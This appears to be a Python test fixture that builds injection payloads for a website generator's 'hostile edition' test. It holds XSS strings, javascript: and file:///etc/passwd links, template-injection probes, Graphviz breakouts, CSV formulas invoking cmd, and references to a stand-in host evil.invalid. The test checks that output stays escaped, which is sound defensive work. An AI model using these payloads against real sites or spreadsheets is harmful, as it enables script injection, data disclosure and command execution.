"""The attack strings of the hostile edition (tests/hostile_edition.py), and how they are dealt to its fields.

`{m}` in a payload is the field's marker (`INJ0042`): a check that finds `alert('INJ0042')` where it must not be
names the field. Each field gets two payloads in rotation, then a short core of forms every field carries (the
`](…){: onerror=…}` of a code span becomes live wherever text reduced to words lands in Markdown, and a rotation
could miss that field). Every text ends with two glossary acronyms (`ZORG`, whose definition tries to break out of
`<abbr title>`, and `H<b>X</b>"K`, an acronym that is markup itself), so the glossary's explanations are applied
to every text of the site, and with a backslash (the end of a Graphviz string).
"""

from __future__ import annotations

import re

MARKER = re.compile(r"INJ\d{4}")
WORD_ACRONYM = "ZORG"  # its definition is the `<abbr title>` break-out
MARKUP_ACRONYM = 'H<b>X</b>"K'  # an acronym that is markup itself (and a Graphviz HTML label if unescaped)
PASSWD = "/etc/passwd"  # what the file:// payloads point at: no byte of it may reach any output

# --- the payloads ---------------------------------------------------------------------------------------------
# `{m}` is the field's marker. Markdown forms the data renderer knows, raw HTML it must show as text, forms only
# the page's second Markdown pass would know (attribute lists, abbreviations, admonitions), and escaped forms
# that become live syntax once reduced to plain text (code spans, backslashes, entities).
PAYLOADS: dict[str, str] = {
    # the six forms of issue 10
    "attr-list": "*mot*{{: onclick=\"alert('{m}')\" }} et texte{{x onclick=alert('{m}')}}\n"
                 "{{: onmouseover=\"alert('{m}')\" }}",
    "entity-scheme": "[clic](&#106;avascript:alert('{m}')) [clic](&#x6A;avascript&#58;alert('{m}'))",
    "reference-link": "[clic][r{m}] et [r{m}]\n\n[r{m}]: javascript:alert('{m}')\n[s{m}]: JAVASCRIPT:alert('{m}')",
    "link-breakout": "[x](http://a.org/a)[y](javascript:alert('{m}')) [z](http://a.org/\"onmouseover=\"alert('{m}'))"
                     " <http://a.org/\"onmouseover=\"alert('{m}')\">",
    "abbr-breakout": "\" onmouseover=\"alert('{m}')\" x=\" \"><script>alert('{m}')</script>",
    "abbr-breakout-entities": "&quot; onfocus=alert('{m}') autofocus x=&quot; &#39;><img src=x onerror=alert('{m}')>",
    # classic ones
    "script": "<script>alert('{m}')</script> </script><script>alert('{m}')</script>",
    "img-onerror": "<img src=x onerror=\"alert('{m}')\"> <IMG SRC=x OnError=alert('{m}')>",
    "svg-onload": "<svg/onload=alert('{m}')> <svg><script>alert('{m}')</script></svg>",
    "frames": "<iframe src=\"javascript:alert('{m}')\"></iframe> <object data=\"javascript:alert('{m}')\"></object>"
              " <embed src=\"javascript:alert('{m}')\">",
    "event-attributes": "<a href=\"#\" onmouseover=\"alert('{m}')\">a</a> <div onclick=alert('{m}')>d</div>"
                        " <details open ontoggle=alert('{m}')>",
    "data-vbscript": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox('{m}'))"
                     " <data:text/html,<script>alert('{m}')</script>>",
    "encoded-schemes": "[j](JaVaScRiPt:alert('{m}')) [t](java&#x09;script:alert('{m}')) [n](java&#10;script:"
                       "alert('{m}')) [s]( javascript:alert('{m}')) <javascript:alert('{m}')>",
    "file-links": "[f](file:///etc/passwd) <file:///etc/passwd> <a href=\"file:///etc/passwd\">p</a>",
    # Markdown images (`![…](…)`) are refused by validation (E108, tests/test_input_limits.py): what is left are
    # the forms that validate, a reference definition and raw HTML
    "images": "[i][img{m}]\n\n[img{m}]: http://evil.invalid/ref-{m}.png\n\n<img src=\"http://evil.invalid/raw-{m}.png\">",
    "style-css": "<style>@import 'http://evil.invalid/{m}.css';</style> <div style=\"background:url("
                 "http://evil.invalid/{m}.png)\">s</div> <link rel=stylesheet href=http://evil.invalid/{m}.css>",
    "head-tags": "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\"> <base href=\"http://evil."
                 "invalid/\"> <form action=\"javascript:alert('{m}')\"><button>envoyer</button></form>",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')></style></mglyph></table>"
                "</mtext></math> <noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></noscript>",
    "comments": "<!-- x --><script>alert('{m}')</script> ]]><script>alert('{m}')</script> --!>",
    "breakouts": "</title></textarea></style></script></noscript><script>alert('{m}')</script>",
    # template syntax: 70001*3 = 210003 would show if any engine evaluated it
    "templates": "{{{{ 70001*3 }}}} {{% raw %}}{{{{ config }}}}{{% endraw %}} ${{70001*3}} #{{70001*3}} <%= 70001*3 %>"
                 " {{% include '/etc/passwd' %}} {{{{ ''.__class__.__mro__ }}}}",
    # Markdown structure
    "fences": "```\n</code></pre><script>alert('{m}')</script>\n```\n\n~~~html\n<script>alert('{m}')</script>",
    "unclosed-fence": "```html\n<img src=x onerror=alert('{m}')>\n",
    "table-breaker": "a | b | <script>alert('{m}')</script>\n\n| x | y |\n|---|---|\n| <img src=x onerror="
                     "alert('{m}')> | [l](javascript:alert('{m}')) |",
    "page-extensions": "!!! note \"<img src=x onerror=alert('{m}')>\"\n    corps\n\n*[ZORG]: <script>alert('{m}')"
                       "</script>\n\n- [x] tâche <input onfocus=alert('{m}') autofocus>\n\n<div markdown=\"1\">"
                       "[l](javascript:alert('{m}'))</div>",
    "footnotes": "note[^n{m}]\n\n[^n{m}]: <script>alert('{m}')</script> [l](javascript:alert('{m}'))",
    "headings": "# <script>alert('{m}')</script>\n\n## [h](javascript:alert('{m}')) {{#x onclick=alert('{m}')}}",
    # Graphviz: an HTML-like label, a file read through IMG, escapes, a quote closing the label
    "graphviz": "<b>gras</b> <<table><tr><td><IMG SRC=\"/etc/passwd\"/></td></tr></table>> \\N \\G \\l "
                "\"]; {m}evil [label=\"x\" image=\"/etc/passwd\"]; a [label=\"x fin\\",
    # CSV formulas (a cell is judged by its first character: these start the text)
    "csv-equals": "=HYPERLINK(\"http://evil.invalid/?{m}\",\"clic\")",
    "csv-plus": "+1+cmd|' /C calc'!A0 {m}",
    "csv-minus": "-1+1 {m}",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "csv-tab": "\t=1+1 {m}",
    # plain-text round trips: inert as Markdown, live syntax once reduced to words (titles, alt, tooltips)
    "code-span": "`](http://evil.invalid/{m}.png){{: onerror=alert('{m}') }}` `<script>alert('{m}')</script>`"
                 " ``[x](javascript:alert('{m}'))``",
    "backslashes": "\\[x\\]\\(javascript:alert('{m}')\\) \\*y\\*\\{{: onclick=alert('{m}') \\}} \\<script\\>",
    "entities": "&lt;script&gt;alert('{m}')&lt;/script&gt; &#60;img src=x onerror=alert('{m}')&#62; &#91;x&#93;"
                "&#40;http://evil.invalid/{m}.png&#41;",
    # size and unicode
    # long: 3 000 characters, one word of 300 (a longer word costs Chromium seconds to lay out in a table: a
    # limit of the browser, not an injection)
    "long": "A" * 300 + " " + "<script>alert('{m}')</script> [x](javascript:alert('{m}')) texte " * 40,
    "unicode": "\u202egnp.exe\u202c 🧨 e\u0301 \u200b\u2028\u2029 ＜script＞alert('{m}')＜/script＞ \ufeff"
               " \u0000\u0008\u000b\u001b[31m \u007f \ud7ff \x02wzxhzdk:0\x03 \x02klzzwxh:0\x03",
}
# Values of URL fields (`Lien.url`): all pass the model's `https?://\S+` and try to leave their link.
URL_PAYLOADS = [
    "http://a.org/a)[y](javascript:alert('{m}'))",
    "http://a.org/\"onmouseover=\"alert('{m}')\"",
    "https://a.org/'><script>alert('{m}')</script>",
    "https://a.org/{{{{70001*3}}}}#{{:onclick=alert('{m}')}}",
    "http://evil.invalid/{m}.png",
    "https://a.org/&#106;avascript:alert('{m}')`|=HYPERLINK(1)",
]


# Short forms every field carries, whatever its rotated payloads: the ones that become live in contexts a
# rotation could miss (text reduced to words, then written into a Markdown image's alt text, a link label, an
# attribute, a table cell).
CORE = ("`](../index.md){{: onerror=alert('{m}') }}` \\]\\(javascript:alert('{m}')\\) <img src=x onerror=alert('{m}')>"
        " [j](javascript:alert('{m}')) \" onmouseover=\"alert('{m}')\" {{: onclick=alert('{m}') }} | `|` <!--")


def payload_for(index: int, marker: str, limit: int | None = None) -> tuple[str, list[str]]:
    """Two payloads per field, rotated so that each meets every kind, then the core: (text, payload names).
    Within the field's length limit (a longer text is refused by validation, E107): the longest payloads are left
    out until it fits."""
    names = list(PAYLOADS)
    chosen = list(dict.fromkeys([names[index % len(names)], names[(index * 7 + len(names) // 2) % len(names)]]))
    # payloads first (a CSV formula must start the cell), the acronyms after, a backslash last (Graphviz)
    tail = f"{CORE.format(m=marker)} {WORD_ACRONYM} {MARKUP_ACRONYM} {marker} fin\\"
    while True:
        body = "\n\n".join(PAYLOADS[name].format(m=marker) for name in chosen)
        text = f"{body}\n\n{tail}" if body else tail
        if limit is None or len(text) <= limit or not chosen:
            return text, [*chosen, "core"]
        chosen.remove(max(chosen, key=lambda name: len(PAYLOADS[name])))
